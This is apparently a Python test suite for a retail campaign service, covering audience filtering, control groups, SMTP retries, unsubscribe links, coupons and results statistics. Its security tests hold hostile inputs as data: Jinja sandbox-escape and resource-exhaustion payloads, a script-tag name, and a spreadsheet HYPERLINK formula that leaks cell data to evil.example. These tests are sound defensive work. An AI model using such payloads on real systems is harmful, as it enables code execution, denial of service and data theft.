"""Campaigns end to end on SQLite and PostgreSQL: the audience funnel, the control group,
sending over a real SMTP server, reruns, unsubscribing, coupons and results."""

from __future__ import annotations

import csv
import threading
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest

from cornerstore.access.caller import Caller, system_caller
from cornerstore.campaigns.audience import arm_of
from cornerstore.campaigns.delivery import SmtpSender
from cornerstore.campaigns.model import Contact, Offer
from cornerstore.errors import Conflict, Forbidden, InvalidInput
from cornerstore.intake.service import Source
from cornerstore.services import Services
from cornerstore.storage import tables as t
from tests.campaigns.conftest import (
    NOW,
    SmtpAnswers,
    add_customers,
    add_segment,
    campaign_services,
    free_port,
    roots,
)
from tests.factories import identify, track

OWNER = system_caller()


def _campaign(services: Services, **overrides: Any) -> int:
    spec: dict[str, Any] = {
        "name": "Spring",
        "purpose": "marketing_email",
        "channel": "email",
        "audience": {"segment": "everyone"},
        "subject": "Spring at {{ shop.name }}",
        "body": "Hello {{ customer.first_name or 'there' }}",
        "control_share": 0.2,
        "window_days": 30,
        **overrides,
    }
    return services.campaigns.create(OWNER, **spec, now=NOW).id


def _exported_half_and_half(services: Services, count: int, folder: Path) -> tuple[list[str], int]:
    """``count`` customers, half held out, their export campaign sent at ``NOW``."""
    customers = add_customers(services, count)
    add_segment(services, "everyone", customers)
    campaign_id = _campaign(services, channel="export", control_share=0.5)
    services.campaigns.send(OWNER, campaign_id, output=folder / "out.csv", now=NOW)
    return customers, campaign_id


def _open_complaint(services: Services, customer: str) -> None:
    with services.store.unit_of_work(write=True) as uow:
        uow.cases.add(
            {
                "customer_id": customer,
                "channel": "phone",
                "status": "open",
                "category": "delivery",
                "priority": "normal",
                "subject": "late parcel",
                "opened_at": NOW,
                "updated_at": NOW,
                "reopened": 0,
                "created_by": "test",
            }
        )


def test_the_funnel_filters_consent_caps_complaints_then_draws_control(
    services: Services,
) -> None:
    services = campaign_services(services)
    allowed = add_customers(services, 40)
    services.intake.ingest(
        [
            {
                "type": "identify",
                "userId": "nope",
                "traits": {"email": "nope@example.com"},
                "context": {"consent": {"categoryPreferences": {"marketing_email": False}}},
            }
        ],
        source=Source("shop", "web"),
    )
    (nope,) = roots(services, "nope")
    capped, complaining = allowed[0], allowed[1]
    services.contacts.record(
        [
            Contact(capped, "email", "marketing_email", NOW - timedelta(days=d), "test")
            for d in (1, 2)
        ]
    )
    _open_complaint(services, complaining)
    add_segment(services, "everyone", [*allowed, nope])
    campaign_id = _campaign(services)

    funnel = services.campaigns.audience(OWNER, campaign_id, now=NOW)

    key = b"test-key"
    eligible = [c for c in allowed if c not in (capped, complaining)]
    control = [c for c in eligible if arm_of(key, campaign_id, c, 0.2) == "control"]
    assert funnel.steps() == [
        ("segment", 41),
        ("consent", 40),
        ("caps", 39),
        ("complaints", 38),
        ("address", 38),
        ("treatment", 38 - len(control)),
        ("control", len(control)),
    ]
    assert 0 < len(control) < 20


def test_sending_stores_every_recipients_group_and_state_with_its_reason(
    services: Services, smtp: tuple[SmtpAnswers, int]
) -> None:
    answers, port = smtp
    services = campaign_services(services, port)
    customers = add_customers(services, 30)
    _open_complaint(services, customers[0])
    add_segment(services, "everyone", customers)
    campaign_id = _campaign(services)

    report = services.campaigns.send(OWNER, campaign_id, now=NOW)

    page = services.campaigns.recipients(OWNER, campaign_id, limit=1000)
    states = {r.customer_id: (r.arm, r.state, r.reason) for r in page.recipients}
    assert states[customers[0]] == ("none", "excluded", "open complaint")
    held = {c for c, (arm, _, _) in states.items() if arm == "control"}
    assert all(states[c][1:] == ("held_out", "control group") for c in held)
    sent = {c for c, (_, state, _) in states.items() if state == "sent"}
    assert len(sent) == report.sent == report.treatment == 29 - len(held)
    assert answers.to() == sorted(f"c{customers.index(c):03d}@example.com" for c in sent)
    assert answers.connections == 1  # one connection reused for every message
    assert services.campaigns.audience(OWNER, campaign_id).steps()[3] == ("complaints", 29)
    # The sends are in the contact log: these customers count against the caps now.
    assert services.contacts.count(sorted(sent), NOW - timedelta(days=1)) == dict.fromkeys(sent, 1)


def test_a_send_of_a_campaign_another_send_holds_is_refused_until_its_lease_ends(
    services: Services, smtp: tuple[SmtpAnswers, int]
) -> None:
    answers, port = smtp
    services = campaign_services(services, port)
    customers = add_customers(services, 8)
    add_segment(services, "everyone", customers)
    campaign_id = _campaign(services, control_share=0.01)
    clock = datetime.now(UTC)
    with services.store.unit_of_work(write=True) as uow:  # another process is sending it
        assert uow.campaigns.take_sending_lease(
            campaign_id, "other", clock, clock + timedelta(minutes=5)
        )

    with pytest.raises(Conflict, match="being sent by another send"):
        services.campaigns.send(OWNER, campaign_id, now=NOW)
    assert answers.to() == []

    with services.store.unit_of_work(write=True) as uow:  # ... and stopped half-way long ago
        uow.campaigns.take_sending_lease(campaign_id, "other", clock, clock - timedelta(minutes=1))
    report = services.campaigns.send(OWNER, campaign_id, now=NOW)
    assert report.sent == report.treatment > 0
    # The lease ended with that send: a rerun may start, and sends nothing again.
    assert services.campaigns.send(OWNER, campaign_id, now=NOW).sent == 0
    assert len(answers.to()) == report.sent


def test_two_sends_at_once_deliver_each_message_once(
    services: Services, smtp: tuple[SmtpAnswers, int]
) -> None:
    answers, port = smtp
    services = campaign_services(services, port)
    customers = add_customers(services, 40)
    add_segment(services, "everyone", customers)
    campaign_id = _campaign(services, control_share=0.01)
    start = threading.Barrier(2)
    outcomes: list[object] = []

    def send() -> None:
        start.wait()
        try:
            outcomes.append(services.campaigns.send(OWNER, campaign_id, now=NOW).sent)
        except Conflict as refused:
            outcomes.append(refused)

    senders = [threading.Thread(target=send) for _ in range(2)]
    for sender in senders:
        sender.start()
    for sender in senders:
        sender.join(timeout=120)

    delivered = answers.to()
    assert len(delivered) == len(set(delivered)) > 0  # nobody got the message twice
    sent = [n for n in outcomes if isinstance(n, int)]
    assert sum(sent) == len(delivered) and len(outcomes) == 2


def test_one_connection_4xx_retried_5xx_failed_at_once_and_a_rerun_sends_only_failures(
    services: Services, smtp: tuple[SmtpAnswers, int]
) -> None:
    answers, port = smtp
    services = campaign_services(services, port, smtp_retries=2)
    customers = add_customers(services, 6)
    add_segment(services, "everyone", customers)
    campaign_id = _campaign(services, control_share=0.01)
    treated = [c for c in customers if arm_of(b"test-key", campaign_id, c, 0.01) == "treatment"]
    busy, stubborn, gone = (f"c{customers.index(c):03d}@example.com" for c in treated[:3])
    answers.busy = {busy: 2, stubborn: 5}
    answers.gone = {gone}

    first = services.campaigns.send(OWNER, campaign_id, now=NOW)

    assert first.sent == len(treated) - 2
    assert first.failed == 2
    assert answers.rcpt_attempts[busy] == 3  # two 421 answers, then accepted
    assert answers.rcpt_attempts[stubborn] == 3  # the first try and two retries
    assert answers.rcpt_attempts[gone] == 1  # 550 is final
    # One connection for the whole send, reopened only after a 421 (which closes it) when
    # there is more to send: the recipients' order is random, so the last answer may be one.
    assert answers.answered.count(421) == 2 + 3
    reopened = answers.answered[:-1].count(421)
    assert answers.connections == 1 + reopened
    failed = services.campaigns.recipients(OWNER, campaign_id, state="failed").recipients
    reasons = sorted(r.reason or "" for r in failed)
    assert reasons[0].startswith("smtp 421") and reasons[1].startswith("smtp 550")

    answers.gone = set()
    received_before = len(answers.received)
    again = services.campaigns.send(OWNER, campaign_id, now=NOW)

    assert (again.sent, again.failed, again.skipped) == (2, 0, len(treated) - 2)
    assert sorted(str(m["To"]) for m in answers.received[received_before:]) == sorted(
        [stubborn, gone]
    )


def test_messages_carry_one_click_unsubscribe_that_withdraws_consent_once(
    services: Services, smtp: tuple[SmtpAnswers, int]
) -> None:
    answers, port = smtp
    services = campaign_services(services, port)
    customers = add_customers(services, 3)
    add_segment(services, "everyone", customers)
    campaign_id = _campaign(
        services, control_share=0.01, html="<p>Hi {{ customer.first_name }}</p>"
    )
    services.campaigns.send(OWNER, campaign_id, now=NOW)

    mail = answers.received[0]
    link = str(mail["List-Unsubscribe"]).strip("<>")
    assert mail["List-Unsubscribe-Post"] == "List-Unsubscribe=One-Click"
    assert link.startswith("https://shop.example/v1/unsubscribe/")
    token = link.rsplit("/", 1)[1]
    customer = roots(services, str(mail["To"]))[0]

    first = services.campaigns.unsubscribe(token)
    second = services.campaigns.unsubscribe(token)

    assert (first.purpose, first.changed, second.changed) == ("marketing_email", True, False)
    assert services.consents.may(customer, "marketing_email") is False
    assert services.consents.may(
        customers[-1] if customer != customers[-1] else customers[0], "marketing_email"
    )
    with pytest.raises(InvalidInput, match="token: not a valid unsubscribe link"):
        services.campaigns.unsubscribe(token[:-2] + ("A" if token[-2] != "A" else "B") + token[-1])


def test_a_failing_template_fails_that_customer_only_and_says_why(
    services: Services, smtp: tuple[SmtpAnswers, int]
) -> None:
    answers, port = smtp
    services = campaign_services(services, port)
    customers = add_customers(services, 5)
    add_segment(services, "everyone", customers)
    # Name002's message divides by zero; everyone else's renders.
    body = "Hi {{ customer.first_name }} {{ 1 // (customer.first_name != 'Name002') | int }}"
    campaign_id = _campaign(services, body=body, control_share=0.01)
    # Root ids are random, so even a 1% control may hold one of the five: expect the draw.
    treated = [c for c in customers if arm_of(b"test-key", campaign_id, c, 0.01) == "treatment"]
    failing = [c for c in treated if c == customers[2]]

    report = services.campaigns.send(OWNER, campaign_id, now=NOW)

    failed = services.campaigns.recipients(OWNER, campaign_id, state="failed").recipients
    assert [r.customer_id for r in failed] == failing
    assert all(
        r.reason == "template: ZeroDivisionError: integer division or modulo by zero"
        for r in failed
    )
    assert report.sent == len(answers.received) == len(treated) - len(failing)
    assert len(treated) - len(failing) >= 2


@pytest.mark.parametrize(
    "body",
    [
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "{{ cycler.__init__.__globals__.os }}",
        "{{ '{0.__class__}'.format(customer) }}",
        "{{ customer.first_name.format_map(customer) }}",
        "{{ range(10**9) | list }}",
        "{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %}",
        "{{ 'x' * 10**9 }}",
    ],
)
def test_a_sandbox_escape_payload_fails_safely_at_send(
    services: Services, smtp: tuple[SmtpAnswers, int], body: str
) -> None:
    answers, port = smtp
    services = campaign_services(services, port)
    customers = add_customers(services, 2)
    add_segment(services, "everyone", customers)
    campaign_id = _campaign(services, body=body, control_share=0.01)

    report = services.campaigns.send(OWNER, campaign_id, now=NOW)

    assert (report.sent, answers.received) == (0, [])
    failed = services.campaigns.recipients(OWNER, campaign_id, state="failed").recipients
    assert len(failed) == report.treatment and all(
        (r.reason or "").startswith("template: ") for r in failed
    )


def test_treatment_gets_single_use_coupons_redeemed_only_by_their_owner(
    services: Services, tmp_path: Path
) -> None:
    services = campaign_services(services)
    customers = add_customers(services, 20)
    add_segment(services, "everyone", customers)
    campaign_id = _campaign(
        services,
        channel="export",
        body="Your code {{ coupon.code }} ({{ coupon.offer }}) until {{ coupon.expires }}",
        offer=Offer("10% off your next order", 14),
        control_share=0.3,
    )
    output = tmp_path / "spring.csv"

    report = services.campaigns.send(OWNER, campaign_id, output=output, now=NOW)

    rows = list(csv.DictReader(output.open()))
    assert len(rows) == report.sent == report.treatment
    codes = {row["customer_id"]: row["coupon"] for row in rows}
    assert all(row["text"].startswith(f"Your code {row['coupon']} (10% off") for row in rows)
    held = [c for c in customers if c not in codes]
    assert len(held) == report.control > 0
    owner, other = rows[0]["customer_id"], rows[1]["customer_id"]
    owner_ref, other_ref = (f"c{customers.index(c):03d}" for c in (owner, other))
    code = codes[owner]

    def order(user: str) -> dict[str, Any]:
        return track(
            "Order Completed", user, timestamp="2026-06-03T10:00:00Z", total=20, coupon=code.lower()
        )

    answers = [
        services.intake.ingest([order(ref)], source=Source("shop", "web"))
        for ref in (other_ref, owner_ref, owner_ref)
    ]

    # Intake stores the order whatever the coupon's fate, and tells the sender that fate.
    assert [a.accepted for a in answers] == [1, 1, 1]
    assert [(c.index, c.code, c.redeemed, c.reason) for a in answers for c in a.coupons] == [
        (0, code, False, "not_theirs"),
        (0, code, True, None),
        (0, code, False, "used"),
    ]
    coupon, refusals = services.campaigns.coupon(OWNER, code)
    assert coupon.customer_id == owner and coupon.redeemed_at is not None
    assert [(who, why) for who, why, _ in refusals] == [(other, "not_theirs"), (owner, "used")]


def test_results_compare_conversion_and_revenue_per_assigned_customer_with_control(
    services: Services, tmp_path: Path
) -> None:
    services = campaign_services(services)
    customers, campaign_id = _exported_half_and_half(services, 120, tmp_path)
    arms = {c: arm_of(b"test-key", campaign_id, c, 0.5) for c in customers}
    orders = []
    for i, c in enumerate(customers):
        # Everyone spent before, some much more. After the send the big spenders buy again
        # in both groups, about what they spent before; in treatment the small spenders buy
        # too. Pre-period spend predicts revenue: CUPED narrows the interval.
        ref, tier = f"c{i:03d}", i % 7
        orders.append(
            track("Order Completed", ref, timestamp="2026-05-01T10:00:00Z", total=10 + 20 * tier)
        )
        if tier >= 3 or arms[c] == "treatment":
            total = 20 * tier if tier >= 3 else 40
            orders.append(
                track("Order Completed", ref, timestamp="2026-06-10T10:00:00Z", total=total)
            )
    services.intake.ingest(orders, source=Source("shop", "web"))

    results = services.campaigns.results(OWNER, campaign_id, now=NOW + timedelta(days=31))

    treated = [c for c in customers if arms[c] == "treatment"]
    held = [c for c in customers if arms[c] == "control"]
    assert (results.treatment, results.control) == (len(treated), len(held))
    assert results.complete and results.withheld is None
    assert results.sample_ratio is not None and results.sample_ratio.passed
    assert results.conversion is not None and results.revenue is not None
    expected = results.treatment_converted / len(treated) - results.control_converted / len(held)
    assert results.conversion.difference.estimate == pytest.approx(expected)
    assert results.conversion.difference.low > 0
    assert results.revenue.adjusted.difference.low > 0
    assert results.revenue.variance_reduction > 0.5
    assert results.revenue.adjusted.difference.width < results.revenue.unadjusted.difference.width


def test_results_are_withheld_while_the_group_sizes_fail_the_sample_ratio_check(
    services: Services, tmp_path: Path
) -> None:
    services = campaign_services(services)
    _, campaign_id = _exported_half_and_half(services, 100, tmp_path)
    # Someone moved most of the control group into treatment after assignment.
    with services.store.unit_of_work(write=True) as uow:
        held = [c for c, arm in uow.campaigns.assigned(campaign_id).items() if arm == "control"]
        uow.conn.execute(
            t.campaign_recipients.update()
            .where(t.campaign_recipients.c.customer_id.in_(held[3:]))
            .values(arm="treatment")
        )

    results = services.campaigns.results(OWNER, campaign_id, now=NOW + timedelta(days=2))

    assert results.conversion is None and results.revenue is None
    assert results.withheld is not None and results.withheld.startswith("sample-ratio mismatch")
    assert not results.complete


def test_preview_renders_any_customers_message_and_is_audited(services: Services) -> None:
    services = campaign_services(services)
    customers = add_customers(services, 2)
    add_segment(services, "everyone", customers)
    campaign_id = _campaign(services, html="<b>{{ customer.first_name }}</b>")
    services.intake.ingest(
        [{"type": "identify", "userId": "c001", "traits": {"first_name": "<script>x</script>"}}],
        source=Source("shop", "web"),
    )

    preview = services.campaigns.preview(OWNER, campaign_id, "c001@example.com")

    assert preview.message is not None
    assert preview.message.html == "<b>&lt;script&gt;x&lt;/script&gt;</b>"
    assert preview.message.text == "Hello <script>x</script>"
    actions = [e.action for e in services.audit.for_customer(customers[1])]
    assert "preview_campaign" in actions


def test_a_role_without_campaigns_may_not_create_or_read_them(services: Services) -> None:
    services = campaign_services(services)
    add_segment(services, "everyone", [])
    shipping = Caller("sam", "shipping", "api")

    with pytest.raises(Forbidden):
        services.campaigns.create(
            shipping,
            name="x",
            purpose="marketing_email",
            channel="email",
            audience={"segment": "everyone"},
            subject="s",
            body="b",
        )
    with pytest.raises(Forbidden):
        services.campaigns.list(shipping)


@pytest.mark.parametrize(
    ("overrides", "message"),
    [
        ({"purpose": "spam"}, "purpose: 'spam' is not one of"),
        ({"channel": "fax"}, "channel: must be one of email, export"),
        ({"audience": {"segment": "nobody"}}, "audience.segment: no such segment"),
        ({"audience": {"list": []}}, 'audience: give {"segment": ID} or {"rule": CONDITION}'),
        ({"control_share": 1.0}, "control_share: must be between 0 and 1"),
        ({"body": "Hi {{ customer.first_name "}, "body: template error on line 1"),
        ({"name": "Spring\x00"}, "name: contains a NUL character"),
        ({"subject": "Hi\x00"}, "subject: contains a NUL character"),
        ({"audience": {"segment": "every\x00one"}}, "audience.segment: contains a NUL character"),
    ],
)
def test_a_bad_campaign_is_refused_naming_the_field(
    services: Services, overrides: dict[str, Any], message: str
) -> None:
    services = campaign_services(services)
    add_segment(services, "everyone", [])

    with pytest.raises((InvalidInput, Exception), match=message):
        _campaign(services, **overrides)
    assert services.campaigns.list(OWNER) == []


def test_suggestions_for_the_whole_audience_are_read_at_once_and_audited_once(
    services: Services, tmp_path: Path
) -> None:
    from tests.suggest.shop import order

    services = campaign_services(services)
    customers = add_customers(services, 20)
    bought = [order(f"c{i:03d}", NOW - timedelta(days=30 + i), "POT", "COSY") for i in range(12)]
    bought += [order(f"c{i:03d}", NOW - timedelta(days=40), "POT") for i in range(12, 20)]
    services.intake.ingest(bought, source=Source("shop", "web"))
    services.suggestions.train(OWNER)
    add_segment(services, "everyone", customers)
    body = "{% for s in suggestions %}{{ s.name }} ({{ s.reason }}); {% endfor %}"
    campaign_id = _campaign(services, channel="export", body=body, control_share=0.2)
    output = tmp_path / "spring.csv"

    report = services.campaigns.send(OWNER, campaign_id, output=output)

    rows = {row["customer_id"]: row["text"] for row in csv.DictReader(output.open())}
    assert len(rows) == report.treatment > 0
    for customer, text in rows.items():
        alone = services.suggestions.for_customer(OWNER, customer, 5).suggestions
        assert text == "".join(f"{s.name} ({s.reason}); " for s in alone)
    teapot_only = [rows[c] for c in customers[12:] if c in rows]
    assert teapot_only and all(
        "tea cosy (often bought with the teapot you bought in " in text for text in teapot_only
    )
    reads = [
        e for e in services.audit.find(OWNER, action="read_suggestions") if e.customer_id is None
    ]
    assert [(e.detail, e.sections) for e in reads] == [
        (f"{report.treatment} customers: campaign {campaign_id}", ["suggestions"])
    ]
    messages = services.audit.find(OWNER, action="campaign_message")
    assert len(messages) == report.treatment
    assert all("suggestions" in e.sections for e in messages)


def test_a_send_with_the_smtp_server_down_stops_after_one_back_off_and_a_rerun_sends_all(
    services: Services, smtp: tuple[SmtpAnswers, int]
) -> None:
    answers, port = smtp
    customers = add_customers(services, 12)
    add_segment(services, "everyone", customers)
    down = campaign_services(services, free_port(), smtp_retries=3, smtp_retry_seconds=1.0)
    waits: list[float] = []
    down.campaigns.sender_factory = lambda: SmtpSender(down.campaigns.cfg, sleep=waits.append)
    campaign_id = _campaign(down, control_share=0.01)

    report = down.campaigns.send(OWNER, campaign_id, now=NOW)

    # One back-off for the whole send, not one per recipient (7 s each by default).
    assert waits == [1.0, 2.0, 4.0]
    reason = f"cannot reach the SMTP server 127.0.0.1:{down.settings.campaigns.smtp_port} "
    assert report.stopped is not None and report.stopped.startswith(reason)
    assert (report.sent, report.failed) == (0, report.treatment)
    assert list(report.failures) == [report.stopped]

    up = campaign_services(services, port)
    again = up.campaigns.send(OWNER, campaign_id, now=NOW)

    assert (again.sent, again.failed, again.stopped) == (report.treatment, 0, None)
    assert len(answers.received) == report.treatment


def test_preview_of_a_draft_says_what_the_funnel_decides_for_that_customer_now(
    services: Services,
) -> None:
    services = campaign_services(services)
    member, outsider, no_consent = add_customers(services, 3)
    services.consents.change(OWNER, no_consent, {"marketing_email": False}, touchpoint="web")
    add_segment(services, "everyone", [member, no_consent])
    campaign_id = _campaign(services, control_share=0.5)
    arm = arm_of(b"test-key", campaign_id, member, 0.5)

    shown = {
        ref: services.campaigns.preview(OWNER, campaign_id, ref)
        for ref in (member, no_consent, outsider)
    }

    decided = {ref: (p.arm, p.state, p.reason, p.assigned) for ref, p in shown.items()}
    assert decided == {
        member: (arm, "eligible" if arm == "treatment" else "held_out", None
                 if arm == "treatment" else "control group", False),
        no_consent: ("none", "excluded", "no consent for marketing_email", False),
        outsider: ("none", "excluded", "not in the audience", False),
    }  # fmt: skip
    services.campaigns.send(OWNER, campaign_id, now=NOW)
    after = services.campaigns.preview(OWNER, campaign_id, outsider)
    assert (after.state, after.reason, after.assigned) == (
        "excluded",
        "not in the audience when it was assigned",
        True,
    )


def test_an_export_never_hands_a_spreadsheet_a_formula_from_a_customers_name(
    services: Services, tmp_path: Path
) -> None:
    services = campaign_services(services)
    attack = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    messages = []
    for ref in ("c1", "c2", "c3", "c4"):
        message = identify(ref, email=f"{ref}@example.com", first_name=attack)
        message["context"] = {"consent": {"categoryPreferences": {"marketing_email": True}}}
        messages.append(message)
    services.intake.ingest(messages, source=Source("shop", "web"))
    customers = roots(services, "c1", "c2", "c3", "c4")
    add_segment(services, "everyone", customers)
    body = "{{ customer.first_name }}"
    campaign_id = _campaign(services, channel="export", subject=body, body=body)
    output = tmp_path / "spring.csv"

    report = services.campaigns.send(OWNER, campaign_id, output=output, now=NOW)

    rows = list(csv.DictReader(output.open(newline="")))
    assert len(rows) == report.sent > 0
    assert {(row["subject"], row["text"]) for row in rows} == {("'" + attack, "'" + attack)}
